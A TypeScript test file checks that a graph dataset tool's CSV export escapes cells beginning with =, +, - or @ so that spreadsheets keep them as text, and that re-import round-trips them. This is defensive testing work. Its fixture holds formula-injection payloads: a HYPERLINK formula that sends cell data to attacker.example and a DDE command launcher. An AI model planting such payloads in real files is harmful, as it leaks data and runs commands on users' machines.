import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, expect, it } from 'vitest';
import { renderExport } from '../graph/export/index.js';
import { parseFile } from '../graph/import/formats.js';
import { importParsed } from '../graph/import/run.js';
import type { DatasetInput } from '../graph/schema/index.js';
import { validateAndLoad } from '../graph/store/check.js';
import { exportDataset, exportGraph } from '../graph/store/export.js';
import { freshGraph } from './support/graph.js';

// Values a spreadsheet would run as formulas if a CSV cell began with them.
const HOSTILE: DatasetInput = {
  kinline: 1,
  entities: [
    {
      id: 'org-formula',
      type: 'Organisation',
      kind: 'ngo',
      names: [{ value: '=HYPERLINK("http://attacker.example/?"&A1,"open")', kind: 'primary' }],
      description: '+cmd|" /C calc"!A0',
    },
    { id: 'org-at', type: 'Organisation', kind: 'media', names: [{ value: '@SUM(1+1)', kind: 'primary' }] },
    { id: 'org-minus', type: 'Organisation', kind: 'court', names: [{ value: '-2+3', kind: 'primary' }] },
    { id: 'org-plain', type: 'Organisation', kind: 'court', names: [{ value: "'quoted' court", kind: 'primary' }] },
  ],
  relationships: [],
};

const tmp = mkdtempSync(join(tmpdir(), 'kinline-csv-formulas-'));

beforeAll(async () => {
  await freshGraph();
  await validateAndLoad(HOSTILE);
});

it('starts no exported cell with =, +, - or @: each such cell is kept as text behind an apostrophe', () => {
  return exportGraph().then((data) => {
    const sheet = renderExport('csv', data).get('organisations.csv') ?? '';
    const cells = sheet.split(/\r?\n/).flatMap((line) => line.split(','));
    for (const cell of cells) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(sheet).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1`);
    expect(sheet).toContain("'@SUM(1+1)");
    expect(sheet).toContain("'-2+3");
  });
});

it('re-imports the export with the template mappings to the very same values', async () => {
  const before = await exportDataset();
  const file = join(tmp, 'organisations.csv');
  writeFileSync(file, renderExport('csv', await exportGraph()).get('organisations.csv') ?? '');
  await freshGraph();
  const report = await importParsed([
    await parseFile(file, { mapping: 'graph/import/template/organisations.mapping.json' }),
  ]);
  expect(report.problems).toEqual([]);
  const after = await exportDataset();
  const names = (d: typeof before) => d.entities.map((e) => [e.id, e.names[0]?.value, e.description]).sort();
  expect(names(after)).toEqual(names(before));
  expect(names(after)).toContainEqual(['org-plain', "'quoted' court", undefined]);
});
